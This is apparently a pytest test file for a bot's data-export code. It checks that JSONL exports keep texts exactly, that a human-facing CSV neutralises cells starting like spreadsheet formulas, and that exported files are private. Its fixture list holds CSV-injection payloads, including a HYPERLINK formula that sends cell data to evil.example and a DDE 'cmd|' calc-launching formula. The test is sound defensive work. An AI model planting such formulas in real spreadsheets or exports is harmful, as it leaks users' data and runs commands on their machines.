"""Exports: JSONL keeps the exact texts and is a valid training file; the CSV for people
neutralises every cell a spreadsheet could run as a formula; files are private."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest

from bot.database.exports import (
    FORMULA_STARTS,
    neutralise,
    write_jsonl,
    write_people_csv,
    write_private,
)
from classifier.exports import read_export

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click me")', "positive"),
    ("+1 great", "-1"),
    ("-2+3", "negative"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "neutral"),
    ("\t=1+1", "neutral"),
    ("\r=1+1", "neutral"),
    ("＝1+1", "neutral"),
    ('a "quoted", comma\nand a second line — ünïcode', "=label"),
    ("line\u2028separators\u2029and\x85next-line", "neutral"),
    ("plain", "positive"),
]


def test_jsonl_keeps_every_text_exactly_and_trains(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    assert write_private(path, lambda handle: write_jsonl(handle, HOSTILE)) == len(HOSTILE)
    lines = path.read_text(encoding="utf-8").splitlines()  # as training splits them
    assert [tuple(json.loads(line).values()) for line in lines] == HOSTILE
    assert [(e.text, e.label) for e in read_export(path)] == [
        (text.strip(), label)
        for text, label in HOSTILE  # training strips the whitespace
    ]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["rows.jsonl"]  # no temporary file left


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_shown_as_text(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_the_csv_for_people_has_no_cell_a_spreadsheet_would_evaluate() -> None:
    buffer = io.StringIO(newline="")
    assert write_people_csv(buffer, HOSTILE) == len(HOSTILE)
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows[0] == ["text", "label"] and len(rows) == len(HOSTILE) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert rows[1] == ["'" + HOSTILE[0][0], "positive"]
    assert rows[2] == ["'+1 great", "'-1"]
    assert rows[-1] == ["plain", "positive"]  # ordinary cells are the text itself


def test_write_private_makes_a_private_folder(tmp_path: Path) -> None:
    path = tmp_path / "exports" / "x.csv"
    write_private(path, lambda handle: write_people_csv(handle, []))
    assert path.read_bytes() == b"text,label\r\n"
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
